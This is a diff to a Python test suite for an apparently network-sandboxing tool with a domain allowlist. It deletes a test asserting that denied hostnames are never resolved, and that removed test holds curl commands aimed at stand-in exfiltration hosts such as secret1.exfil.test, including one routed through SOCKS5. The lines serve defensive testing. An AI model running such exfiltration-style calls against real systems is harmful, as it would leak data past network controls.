@@ -346,22 +346,6 @@ def test_logs(env, dns, plain):
     assert "[fence:" not in p.stderr
 
 
-def test_denied_names_never_reach_dns(env, dns, plain):
-    """The rule is decided on the name before anything is resolved, SOCKS5 included: a denied
-    (or unlisted) name is never sent to the resolver. An allowed one is."""
-    pol = write_policy(env, ALLOW)
-    before = len(dns.queries)
-    p = fence_net(env, dns, pol,
-                  "curl -s --max-time 10 http://secret1.exfil.test/ >/dev/null; "
-                  "curl -s --max-time 10 --socks5-hostname 127.0.0.1:1080 http://secret2.exfil.test/; "
-                  "curl -s --max-time 10 https://secret3.exfil.test/; "
-                  f"curl -s --max-time 10 http://origin.test:{plain.server_port}/hello")
-    assert p.stdout == "hello from origin\n", p.stderr
-    asked = dns.queries[before:]
-    assert "origin.test" in asked
-    assert not [q for q in asked if "exfil" in q], asked
-
-
 def test_sandbox_has_only_loopback(env, dns):
     pol = write_policy(env, {"allowedDomains": ["origin.test"]})
     p = fence_net(env, dns, pol, "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '")
